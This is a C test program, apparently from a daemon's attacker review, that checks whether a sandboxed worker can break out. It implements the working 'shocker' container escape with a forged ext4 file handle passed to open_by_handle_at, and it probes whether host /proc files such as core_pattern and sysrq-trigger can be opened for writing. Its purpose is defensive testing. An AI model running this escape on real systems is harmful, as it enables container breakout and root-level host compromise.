// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * shocker MASK: what a compromised worker could reach with its
 * capabilities (issue 9, attacker review). Run inside the daemon's mount
 * namespace and root (nsenter -t WORKER -m -r), with MASK the worker's
 * CapEff in hex: it keeps exactly those capabilities, then tries the
 * "shocker" container escape: open_by_handle_at() of a forged handle for
 * the root directory of the file system the share lives on (ext4: inode
 * 2, generation 0), which needs CAP_DAC_READ_SEARCH and ignores the mount
 * namespace, pivot_root and the bind mount's subtree alike.
 *
 * Exit 0 and "held: ..." if the open fails; 1 and "escaped: ..." (with a
 * few names of that directory) if a directory other than the share's
 * root was opened; 77 and "skip: ..." when the file system does not use
 * ext4's handle format or the share is its root; 2 on a usage error.
 *
 * shocker procsys DIR MASK: DIR is the daemon's own /proc root as the
 * host sees it (/proc/WORKER/fd/904, REGION_FD_PROC), opened before the
 * capabilities go to MASK, as the worker holds it. Tries to open for
 * writing what a root process of any capability may write there: the
 * host-wide sysctls kernel/core_pattern (a "|program" runs as full root
 * in the host's namespaces at the next core dump) and vm/drop_caches,
 * and sysrq-trigger (reboot, crash). Nothing is written. Exit 1 and
 * "writable: NAME" if one opens, 0 and "held: ..." otherwise.
 *
 * Linked statically: it runs with the share as "/".
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define FILEID_INO32_GEN 1

static int
keep_caps(uint64_t mask)
{
	struct __user_cap_header_struct h = {
		.version = _LINUX_CAPABILITY_VERSION_3, .pid = 0};
	struct __user_cap_data_struct d[2];

	memset(d, 0, sizeof(d));
	d[0].effective = d[0].permitted = (uint32_t)mask;
	d[1].effective = d[1].permitted = (uint32_t)(mask >> 32);
	return (int)syscall(SYS_capset, &h, d);
}

/* A handle with room for any file system's (MAX_HANDLE_SZ bytes). */
struct any_handle {
	struct file_handle h;
	unsigned char room[MAX_HANDLE_SZ];
};

static int
procsys(const char *dir, uint64_t mask)
{
	static const char *const names[] = {"sys/kernel/core_pattern",
	    "sys/vm/drop_caches", "sysrq-trigger"};
	int d = open(dir, O_PATH | O_DIRECTORY), bad = 0;

	if (d < 0 || keep_caps(mask) < 0) {
		printf("skip: %s: %s\n", dir, strerror(errno));
		return 77;
	}
	for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
		int fd = openat(d, names[i], O_WRONLY | O_CLOEXEC);

		printf("%s %s: %s\n", fd >= 0 ? "writable:" : "held:",
		    names[i], fd >= 0 ? "opened for writing" : strerror(errno));
		if (fd >= 0) {
			bad = 1;
			close(fd);
		}
	}
	return bad;
}

int
main(int argc, char **argv)
{
	uint32_t forged[2] = {2, 0}; /* ext4: inode 2, generation 0 */
	struct stat share, got;
	struct any_handle fh;
	char *end, buf[4096];
	uint64_t mask;
	int mnt, fd;
	long n;

	if (argc == 4 && strcmp(argv[1], "procsys") == 0) {
		mask = strtoull(argv[3], &end, 16);
		return *end != '\0' ? 2 : procsys(argv[2], mask);
	}
	if (argc != 2)
		return 2;
	mask = strtoull(argv[1], &end, 16);
	if (*end != '\0')
		return 2;
	if (keep_caps(mask) < 0) {
		printf("skip: capset: %s\n", strerror(errno));
		return 77;
	}
	if (stat("/", &share) < 0)
		return 2;
	fh.h.handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, "/", &fh.h, &mnt, 0) < 0 ||
	    fh.h.handle_type != FILEID_INO32_GEN) {
		printf("skip: no ext4-style handle for the share (%s, type %d)\n",
		    strerror(errno), fh.h.handle_type);
		return 77;
	}
	if (share.st_ino == 2) {
		printf("skip: the share is its file system's root\n");
		return 77;
	}
	fh.h.handle_type = FILEID_INO32_GEN;
	fh.h.handle_bytes = sizeof(forged);
	memcpy(fh.h.f_handle, forged, sizeof(forged));
	if ((mnt = open("/", O_RDONLY | O_DIRECTORY)) < 0)
		return 2;
	fd = open_by_handle_at(mnt, &fh.h, O_RDONLY | O_DIRECTORY);
	if (fd < 0) {
		printf("held: open_by_handle_at of the file system's root: %s\n",
		    strerror(errno));
		return 0;
	}
	if (fstat(fd, &got) < 0 || got.st_ino == share.st_ino) {
		printf("held: the handle gave the share itself\n");
		return 0;
	}
	printf("escaped: opened inode %llu of the share's file system (the "
	    "share is inode %llu):", (unsigned long long)got.st_ino,
	    (unsigned long long)share.st_ino);
	n = syscall(SYS_getdents64, fd, buf, sizeof(buf));
	for (long pos = 0, k = 0; pos < n && k < 12; k++) {
		struct dirent64 *de = (struct dirent64 *)(buf + pos);

		printf(" %s", de->d_name);
		pos += de->d_reclen;
	}
	printf("\n");
	return 1;
}
